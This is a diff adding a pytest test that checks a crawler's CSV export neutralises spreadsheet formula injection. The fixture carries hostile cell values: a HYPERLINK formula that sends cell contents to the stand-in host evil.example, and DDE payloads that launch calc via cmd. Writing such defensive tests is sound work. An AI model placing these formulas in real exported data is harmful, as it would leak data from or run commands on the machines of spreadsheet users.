@@ -13,6 +13,7 @@ from crawler.cli import main
 from pipelines.archive.export import ExportError, export_records, partition_of, schema
 from pipelines.archive.reader import open_archive
 from tests.test_reading_support import sample_archive
+from tests.threats import observe
 
 pq = pytest.importorskip("pyarrow.parquet")
 
@@ -104,3 +105,29 @@ def test_export_streams_in_batches(tmp_path: Path) -> None:
     assert len(result.files) > len(LAYOUT)
     assert pq.read_table(tmp_path / "out").num_rows == 7
     assert reader.cursor == reader.manifests()[-1]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    """OWASP's rule for CSV injection: a text cell starting with = + - @ tab or CR gets a leading '."""
+    hostile = {
+        "title": '=HYPERLINK("http://evil.example/?"&A1,"klick")',
+        "lead": "+1+cmd|' /C calc'!A0",
+        "body": "-2+3",
+        "section": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "publisher": "\tTAB",
+        "region": "\rCR",
+        "language": "de",
+        "authors": ["=1+1"],
+    }
+    records = [{"id": "a", "site": "ndr", "url": "https://www.ndr.de/a-1.html", **hostile}]
+    export_records(records, tmp_path / "csv", "csv")
+    with (tmp_path / "csv/site=ndr/date=unknown/part-0.csv").open(newline="", encoding="utf-8") as f:
+        (row,) = list(csv.DictReader(f))
+    for name in ("title", "lead", "body", "section", "publisher", "region"):
+        assert row[name] == "'" + hostile[name], name
+    assert row["language"] == "de" and row["url"] == "https://www.ndr.de/a-1.html"
+    assert json.loads(row["authors"]) == ["=1+1"], "a JSON cell starts with [ and stays as it is"
+    export_records(records, tmp_path / "parquet", "parquet")
+    (kept,) = pq.read_table(tmp_path / "parquet/site=ndr/date=unknown/part-0.parquet").to_pylist()
+    assert kept["title"] == hostile["title"], "Parquet keeps the values"
+    observe("csv-formula", f"CSV title cell: {row['title']}")
